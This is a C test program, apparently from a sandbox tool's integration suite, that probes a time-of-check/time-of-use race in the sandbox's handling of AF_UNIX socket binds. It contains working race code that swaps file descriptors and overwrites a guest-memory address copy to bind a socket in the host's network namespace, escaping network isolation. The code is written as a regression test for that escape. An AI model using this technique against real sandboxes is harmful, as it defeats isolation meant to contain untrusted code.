/*
 * race_bind_unix: the fd-number TOCTOU probe of an AF_UNIX path bind.
 * NOT a differential test: run by tests/integration/isolation_net.sh.
 *
 *   race_bind_unix ALLOWED_IP ALLOWED_PORT HOSTPORT [SECONDS]
 *
 * Under `moat run --net allow=ALLOWED_IP:ALLOWED_PORT`: a connect to the
 * allowed destination, then connect(AF_UNSPEC), leaves the guest a socket
 * of the host's network namespace that holds no port (N). The bind stop of
 * an AF_UNIX path on an AF_UNIX socket wrote the path's abstract name into
 * a copy below the red zone (guest memory) and let the bind run natively:
 * one thread here swaps fd F between a fresh AF_UNIX socket and N (dup2)
 * and keeps writing {AF_INET, INADDR_ANY, HOSTPORT} over that copy (found
 * after a first bind, below the stack pointer) while the main thread binds
 * F to a path. When both land between the check and the kernel's read, N
 * is bound to HOSTPORT of the host's namespace (red team 60: within a few
 * hundred binds, root-run and rootless).
 *
 * Prints "BOUND HOSTPORT" and exits 1 if N's local port became HOSTPORT
 * (the bind reached the host's namespace), else "not bound" with the count
 * of binds and whether the copy was seen, exit 0. Exit 2: set-up failed.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>
#include "race.h"

#define F 100
static int N, U;
static unsigned char *volatile target;
static atomic_int stop;
static unsigned char pat[16];

static void *racer(void *a)
{
	(void)a;
	while (!atomic_load(&stop)) {
		unsigned char *p = target;
		if (p)
			memcpy(p, pat, sizeof pat);
		dup2(N, F);
		if (p)
			memcpy(p, pat, sizeof pat);
		dup2(U, F);
	}
	return NULL;
}

/* the stack below main's frame mapped (and zeroed) before the scan */
static __attribute__((noinline)) void touch(void)
{
	volatile char buf[16384];
	for (size_t i = 0; i < sizeof buf; i++)
		buf[i] = 0;
}

/* both binds from this one frame: the copy is at the same place each time */
static int bind_path(int fd, const char *path)
{
	struct sockaddr_un su = { .sun_family = AF_UNIX };
	snprintf(su.sun_path, sizeof su.sun_path, "%s", path);
	return bind(fd, (struct sockaddr *)&su, sizeof su);
}

int main(int argc, char **argv)
{
	if (argc < 4)
		return 2;
	int hport = atoi(argv[3]), secs = argc > 4 ? atoi(argv[4]) : 5;
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2])) };
	inet_pton(AF_INET, argv[1], &a.sin_addr);
	N = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(N, (struct sockaddr *)&a, sizeof a) < 0) {
		perror("connect");
		return 2;
	}
	struct sockaddr un = { .sa_family = AF_UNSPEC };
	connect(N, &un, sizeof un);
	U = socket(AF_UNIX, SOCK_STREAM, 0);
	struct sockaddr_in b = { .sin_family = AF_INET, .sin_port = htons((uint16_t)hport) };
	memcpy(pat, &b, sizeof pat);
	char path[64];
	snprintf(path, sizeof path, "/tmp/race-bind-%d-probe", (int)getpid());
	touch();
	int s0 = socket(AF_UNIX, SOCK_STREAM, 0);
	bind_path(s0, path);
	uintptr_t sp = (uintptr_t)__builtin_frame_address(0);
	for (uintptr_t x = sp - 8192; x < sp - 16; x++) {
		unsigned char *q = (unsigned char *)x;
		if (q[0] == AF_UNIX && q[1] == 0 && q[2] == 0 && q[3] != 0) {
			target = q;
			break;
		}
	}
	unlink(path); /* the probe's name: its address stays in s0 (nothing left in /tmp natively) */
	pthread_t t;
	pthread_create(&t, NULL, racer, NULL);
	double end = race_now() + secs;
	long tries = 0;
	int won = 0;
	while (!won && race_now() < end) {
		int fresh = socket(AF_UNIX, SOCK_STREAM, 0);
		dup2(fresh, U);
		close(fresh);
		dup2(U, F);
		snprintf(path, sizeof path, "/tmp/race-bind-%d-%ld", (int)getpid(), tries++);
		bind_path(F, path);
		unlink(path);
		struct sockaddr_in g;
		socklen_t gl = sizeof g;
		if (getsockname(N, (struct sockaddr *)&g, &gl) == 0 && g.sin_family == AF_INET &&
		    ntohs(g.sin_port) == hport)
			won = 1;
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	if (won) {
		printf("BOUND %d after %ld binds\n", hport, tries);
		return 1;
	}
	printf("not bound (%ld binds, copy %s)\n", tries, target ? "seen" : "not seen");
	return 0;
}
